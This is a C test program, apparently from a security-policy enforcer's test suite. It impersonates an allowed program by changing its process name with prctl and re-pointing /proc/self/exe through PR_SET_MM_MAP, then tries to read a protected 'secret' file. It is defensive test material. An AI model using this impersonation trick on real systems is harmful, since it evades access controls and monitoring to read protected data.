/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A process that says it is another program: by its name, and by what /proc/self/exe shows.
 *
 * The Allow spares one program. prctl changes a task's name, and for root the link to its program (Falco-bypasses use such
 * names).
 *
 * ---
 * tries: [B7]
 * breaks:
 *   file:
 *     matchPaths:
 *     - path: "{v}/secret"
 *     - path: "{v}/secret"
 *       fromSource: [{path: "{v}/prog"}]
 *       action: Allow
 * alone: true
 * wins: secret
 */
#include "attack.h"
#include <sys/prctl.h>

int main(void)
{
	struct prctl_mm_map map;
	int file = open(V("prog"), O_RDONLY);
	unsigned long place[8] = { 0 };
	FILE *stat = fopen("/proc/self/stat", "r");
	char text[4096], *field;

	must(file, "open");
	must(prctl(PR_SET_NAME, "prog"), "PR_SET_NAME");
	/* where code, stack, data, heap and arguments lie stays as it is: fields 26 to 28 and 45 to 49 */
	if (!stat || !fgets(text, sizeof(text), stat))
		return failed("/proc/self/stat");
	field = strrchr(text, ')');
	for (int number = 3, at = 0; field && number <= 49; number++) {
		field = strchr(field + 1, ' ');
		if (field && ((number >= 26 && number <= 28) || number >= 45))
			place[at++] = strtoul(field, NULL, 10);
	}
	map = (struct prctl_mm_map){
		.start_code = place[0],
		.end_code = place[1],
		.start_stack = place[2],
		.start_data = place[3],
		.end_data = place[4],
		.start_brk = place[5],
		.brk = (unsigned long)sbrk(0),
		.arg_start = place[6],
		.arg_end = place[7],
		.env_start = place[7],
		.env_end = place[7],
		.exe_fd = file,
	};
	/* refused while the old program is still mapped; then the name alone has to do */
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0))
		printf("PR_SET_MM_MAP: %s\n", strerrorname_np(errno));
	return show(open(V("secret"), O_RDONLY));
}
